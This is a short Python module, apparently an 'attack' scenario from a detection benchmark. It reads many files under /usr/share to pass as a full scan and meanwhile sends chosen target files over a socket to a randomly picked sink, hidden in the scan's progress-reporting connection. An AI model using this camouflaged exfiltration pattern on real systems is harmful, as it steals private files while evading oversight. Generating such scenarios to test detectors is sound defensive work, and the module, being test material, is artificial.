# SPDX-License-Identifier: GPL-3.0-or-later
"""In the middle of a full scan, a file now and then, on the connection that reports how far the scan is."""
import os
import random
import socket

KIND = "attack"
TREE, SCANNED = "/usr/share", 6000


def everything(count):
    number = 0
    for directory, _, names in os.walk(TREE):
        for name in names:
            path = os.path.join(directory, name)
            if os.path.isfile(path) and not os.path.islink(path):
                yield path
                number += 1
                if number == count:
                    return


def product(world):
    rng, files = random.Random(world["seed"]), list(world["files"])
    count = SCANNED // 10 if world["small"] else SCANNED
    every = count // (len(files) + 1)
    with socket.create_connection(rng.choice(world["sinks"])) as sock:
        for number, path in enumerate(everything(count), 1):
            with open(path, "rb") as file:
                file.read(1 << 16)
            if number % every == 0 and files:
                with open(files.pop(), "rb") as file:
                    sock.sendall(file.read())
        for path in files:
            with open(path, "rb") as file:
                sock.sendall(file.read())
